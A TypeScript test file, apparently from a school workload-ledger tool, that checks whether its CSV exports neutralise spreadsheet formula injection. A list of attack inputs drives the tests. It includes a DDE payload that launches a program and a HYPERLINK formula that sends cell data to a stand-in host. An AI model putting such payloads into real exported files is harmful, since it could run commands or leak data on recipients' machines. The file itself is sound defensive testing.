/**
 * Every export goes through the one CSV writer: a list of formula injections put into each export's cells
 * comes out neutralised in every one, and reading the tool's own file back gives the values as written.
 */
import { describe, expect, it } from 'vitest';
import Papa from 'papaparse';
import { findingsToCsv } from '../../../src/lib/ledger/summaries/export.ts';
import { summarizeLedgerCsv } from '../../../src/lib/ledger/summaries/summarize.ts';
import { parseCsv } from '../../../src/lib/ledger/format/parse.ts';
import { payReportCsv, scoresCsv, semesterDisclosureCsv } from '../../../src/lib/allocation/io.ts';
import { tableToCsv } from '../../../src/lib/review/export.ts';
import { packetCsvFiles } from '../../../src/lib/packet/files.ts';
import type { Packet } from '../../../src/lib/packet/model.ts';
import { citation, clauseHref } from '../../../src/lib/policy/clauses.ts';
import { isFigureHeader, toCsv, unneutralize } from '../../../src/lib/files/csv-write.ts';

// OWASP's triggers and the payloads seen in the probe.
const INJECTIONS = ['=HYPERLINK("http://x.example/?"&A1,"点击")', '+1+2', '-1+2', '@SUM(1)', '\t=1+1', '\r=1+1', "'=1+1", '=cmd|" /C calc"!A0', '-00101'];

/** Cells of a CSV text, header first. */
const cellsOf = (text: string) => Papa.parse<string[]>(text.replace(/^\uFEFF/, ''), { skipEmptyLines: true }).data;

/** No cell a spreadsheet would run: every cell starting with a trigger is behind an apostrophe, except plain numbers in figure columns. */
function expectSafe(name: string, text: string) {
  const [header, ...rows] = cellsOf(text);
  for (const row of rows)
    row.forEach((cell, i) => {
      if (isFigureHeader(header![i] ?? '') && /^-?\d+(\.\d+)?$/.test(cell)) return;
      expect(cell, `${name}: ${header![i]}`).not.toMatch(/^[=+\-@\t\r]/);
    });
}

const LEDGER_HEADER = '日期,时段,开始时间,结束时间,班级或活动,服务类型,活动类别,活动内容,场地,参与学生人数,工号,姓名,人员类别,职责,课时数';

describe('one formula-safe CSV writer for every export', () => {
  it('findings', () => {
    const findings = INJECTIONS.map((x, i) => ({ rule: 'ledger.x', clause: '1.1.1' as const, severity: 'error' as const, file: x, row: i + 2, column: x, message: x }));
    expectSafe('findings', findingsToCsv(findings, { citation, href: clauseHref, rule: () => ({ title: '=1+1', basis: '@SUM(1)' }) }));
  });

  it('月度汇总 and 工作量公示 generated from the 台账', () => {
    const ledger = [LEDGER_HEADER, ...INJECTIONS.map((x, i) => `2024-11-0${(i % 5) + 4},第一时段,15:30,16:30,班${i},作业辅导,,答疑,,30,"${`T${i}${x}`.replaceAll('"', '""')}","${x.replaceAll('"', '""')}",本校教职工,主讲,1.5`)].join('\r\n');
    const { monthly, disclosure } = summarizeLedgerCsv(ledger);
    expectSafe('月度汇总', monthly);
    expectSafe('工作量公示', disclosure);
    // Read back as the tool reads its own files: the names as written (a 台账 cell '=1+1 is itself read as =1+1).
    const back = parseCsv(monthly);
    const name = back.headers.indexOf('姓名');
    expect(back.records.map((r) => r.cells[name]).sort()).toEqual(INJECTIONS.map((x) => unneutralize(x.trim())).sort());
  });

  it('学期公示, 报酬统计 and 评分 from the allocation page', () => {
    const people = INJECTIONS.map((x, i) => ({ staffId: x, name: x, hundredths: 150 * (i + 1), amountFen: 10_000 * (i + 1) }));
    expectSafe('学期公示', semesterDisclosureCsv('=1+1', { people }));
    expectSafe('报酬统计', payReportCsv('@SUM(1)', { people }));
    expectSafe('评分', scoresCsv(INJECTIONS.map((x) => ({ staffId: x, name: x, effect: 1, satisfaction: 1 }))));
    // '-00101 read back matches -00101.
    expect(parseCsv(payReportCsv('s', { people })).records.map((r) => r.cells[1])).toEqual(INJECTIONS);
  });

  it('学段中心 review tables and the semester packet', () => {
    expectSafe('review', tableToCsv({ header: ['学校', '说明'], rows: INJECTIONS.map((x) => [x, x]) }));
    const packet = { tables: [{ fileBase: 't', header: ['工号', '姓名', '总课时数'], rows: INJECTIONS.map((x) => [x, x, '1.5']) }] } as unknown as Packet;
    for (const f of packetCsvFiles(packet)) expectSafe(f.name, new TextDecoder().decode(f.bytes));
  });

  it('a negative number in a column of figures stays a number', () => {
    const text = toCsv(['姓名', '差额(元)', '总课时数'], [['-王', '-12.50', '-3']]);
    expect(cellsOf(text)[1]).toEqual(["'-王", '-12.50', '-3']);
  });
});
